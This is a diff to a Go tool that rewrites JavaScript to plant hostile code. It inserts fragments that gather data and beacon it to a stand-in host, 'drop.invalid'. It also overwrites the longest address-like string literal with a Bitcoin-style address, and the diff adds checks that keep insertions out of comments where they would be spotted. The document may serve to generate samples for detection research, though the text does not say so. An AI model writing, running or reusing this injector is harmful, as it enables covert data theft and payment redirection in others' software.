@@ -8,6 +8,7 @@ import (
 	"bytes"
 	"fmt"
 	"regexp"
+	"slices"
 	"strings"
 
 	"github.com/tdewolff/parse/v2"
@@ -186,7 +187,7 @@ func spread(text []byte) []byte {
 		`globalThis.q9.length>99&&navigator.sendBeacon("https://drop.invalid/",globalThis.q9.join());`,
 		`globalThis.q9.length>200&&(globalThis.q9=[]);`,
 	}
-	all := heads(text)
+	all := slices.DeleteFunc(heads(text), func(at int) bool { return commented(text, at) })
 	if len(all) == 0 {
 		return nil
 	}
@@ -195,6 +196,12 @@ func spread(text []byte) []byte {
 		at = append(at, all[i*len(all)/len(pieces)])
 	}
 	return insert(text, pieces, at)
+}
+
+// commented tells a place that may be in a comment.
+func commented(text []byte, at int) bool {
+	line := bytes.LastIndexByte(text[:at], '\n') + 1
+	return bytes.Contains(text[line:at], []byte("//")) || bytes.LastIndex(text[:at], []byte("/*")) > bytes.LastIndex(text[:at], []byte("*/"))
 }
 
 var returnName = regexp.MustCompile(`\breturn [\w$]+[;}]`)
@@ -256,30 +263,35 @@ func existingNames(text []byte) []byte {
 	return inFunction(payload)(text)
 }
 
-// A quoted string of letters, digits and signs of addresses.
-var quoted = regexp.MustCompile(`["'][A-Za-z0-9 ./:_-]{4,}["']`)
-
+// swapString replaces the longest string that is written with letters, digits
+// and signs of addresses alone.
 func swapString(text []byte) []byte {
-	var all [][]int
-	for _, m := range quoted.FindAllIndex(text, -1) {
-		all = append(all, m)
+	out := append(make([]byte, 0, len(text)+1), text...)
+	in := parse.NewInputBytes(out)
+	tree, err := js.Parse(in, js.Options{})
+	if err != nil {
+		return nil
 	}
-	for len(all) > 0 {
-		best := 0
-		for i, m := range all {
-			if m[1]-m[0] > all[best][1]-all[best][0] {
-				best = i
-			}
-		}
-		m := all[best]
-		out := append([]byte(nil), text...)
-		for i := m[0] + 1; i < m[1]-1; i++ {
-			out[i] = "bc1q7x9"[(i-m[0])%7]
-		}
-		if parses(out) && !bytes.Contains(text[max(0, m[0]-80):m[0]], []byte("//")) {
-			return out
-		}
-		all = append(all[:best], all[best+1:]...)
+	var best longest
+	js.Walk(&best, tree)
+	for i := 1; i < len(best)-1; i++ {
+		best[i] = "bc1q7x9"[i%7] // a slice of out
 	}
-	return nil
+	return out
 }
+
+// longest is the longest string literal, as a slice of what was parsed.
+type longest []byte
+
+var address = regexp.MustCompile(`^["'][A-Za-z0-9 ./:_-]{4,}["']$`)
+
+// Enter looks at a literal.
+func (l *longest) Enter(n js.INode) js.IVisitor {
+	if e, ok := n.(*js.LiteralExpr); ok && e.TokenType == js.StringToken && len(e.Data) > len(*l) && address.Match(e.Data) {
+		*l = e.Data
+	}
+	return l
+}
+
+// Exit does nothing.
+func (l *longest) Exit(js.INode) {}
